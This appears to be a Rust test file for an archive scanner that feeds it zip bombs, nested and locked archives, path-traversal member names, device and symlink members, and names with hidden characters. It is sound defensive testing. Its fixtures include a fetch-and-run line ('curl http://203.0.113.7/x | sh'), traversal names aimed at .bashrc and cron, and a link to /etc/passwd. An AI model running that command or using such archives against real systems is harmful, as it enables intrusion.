//! Archives with wrong sizes, members or types: they are reported, or at least never clean.

mod made;

use metier_scan::{
    DeclaredFacts, FileToScan, FindingSeverity, RuleSet, ScanLimits, ScannedContent, Verdict, scan,
};

/// Worse than clean: a finding that is shown, or a report of unread content.
#[track_caller]
fn check(what: &str, path: &str, bytes: &[u8]) {
    let file = FileToScan {
        path,
        content: ScannedContent::Bytes(bytes),
    };
    let limits = ScanLimits::default();
    let report = scan(
        &[file],
        &DeclaredFacts::default(),
        &RuleSet::default(),
        &limits,
    );
    let found = report
        .findings
        .iter()
        .any(|finding| finding.severity >= FindingSeverity::Warning);
    assert!(
        found || report.verdict() == Verdict::Incomplete,
        "{what}: {:?}",
        report.verdict()
    );
}

const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n";

// case 31
#[test]
fn a_bomb_is_not_unpacked() {
    let blanks = vec![b' '; 2 << 20];
    check(
        "one large member",
        "a.zip",
        &made::zipped(&[("a", &blanks)]),
    );
    check("a large stream", "a.gz", &made::gzipped(&blanks));
    let many: Vec<String> = (0..1500).map(|number| format!("{number}.txt")).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|name| (&name[..], &b"x"[..])).collect();
    check("many members", "a.zip", &made::zipped(&many));
}

// case 31
#[test]
fn an_archive_inside_an_archive_is_reported() {
    let inner = made::zipped(&[("setup.sh", SCRIPT)]);
    check("zip in zip", "a.zip", &made::zipped(&[("b.zip", &inner)]));
    let renamed = made::zipped(&[("b.png", &inner)]);
    check("zip in zip as a picture", "a.zip", &renamed);
    let packed = made::gzipped(&made::gzipped(SCRIPT));
    check("gzip in gzip", "a.gz", &packed);
}

// case 31
#[test]
fn members_that_overlap_are_reported() {
    // Two entries of the directory point to the same local header.
    let mut bytes = made::zipped(&[("aaaa", SCRIPT), ("bbbb", SCRIPT)]);
    let entries: Vec<usize> = (0..bytes.len() - 4)
        .filter(|at| &bytes[*at..at + 4] == b"PK\x01\x02")
        .collect();
    let first: [u8; 4] = bytes[entries[0] + 42..entries[0] + 46].try_into().unwrap();
    bytes[entries[1] + 42..entries[1] + 46].copy_from_slice(&first);
    check("overlap", "a.zip", &bytes);
}

// case 32
#[test]
fn data_around_an_archive_is_reported() {
    let zip = made::zipped(&[("notes.txt", b"hello")]);
    let prepended = [b"%PDF-1.4\n%%EOF\n".as_slice(), &zip].concat();
    check("a document before it", "a.pdf", &prepended);
    let trailing = [made::gzipped(b"hello\n").as_slice(), SCRIPT].concat();
    check("a script after it", "a.gz", &trailing);
    let members = [made::gzipped(b"hello\n"), made::gzipped(SCRIPT)].concat();
    check("a second stream", "a.gz", &members);
}

// case 33
#[test]
fn what_needs_a_password_is_reported() {
    check("zip", "a.zip", &made::locked(&[("setup.sh", SCRIPT)]));
    check("7z", "a.7z", b"7z\xbc\xaf\x27\x1c\0\x04rest");
    check("rar", "a.rar", b"Rar!\x1a\x07\x01\0rest");
}

// case 23
#[test]
fn deceptive_names_are_reported() {
    for name in [
        "../../.bashrc",
        "/etc/cron.d/x",
        "..\\..\\x",
        "C:\\x",
        "a/../../b",
    ] {
        check(name, "a.zip", &made::zipped(&[(name, b"x")]));
        check(name, "a.tar", &made::tarred(&[(name, b"x")], &[]));
    }
}

// case 24, 35
#[test]
fn members_that_are_not_files_are_reported() {
    use tar::EntryType;
    for kind in [EntryType::Char, EntryType::Block, EntryType::Fifo] {
        check("a device", "a.tar", &made::tar_of(kind, "x"));
    }
    let link = made::tarred(&[], &[("x", "/etc/passwd")]);
    check("a link", "a.tar", &link);
}

// case 34
#[test]
fn names_with_hidden_characters_are_reported() {
    for name in ["a\u{1b}[2J.txt", "a\n.txt", "a\u{202e}txt.sh"] {
        check(name, "a.zip", &made::zipped(&[(name, b"hello")]));
        check(name, "a.tar", &made::tarred(&[(name, b"hello")], &[]));
    }
}
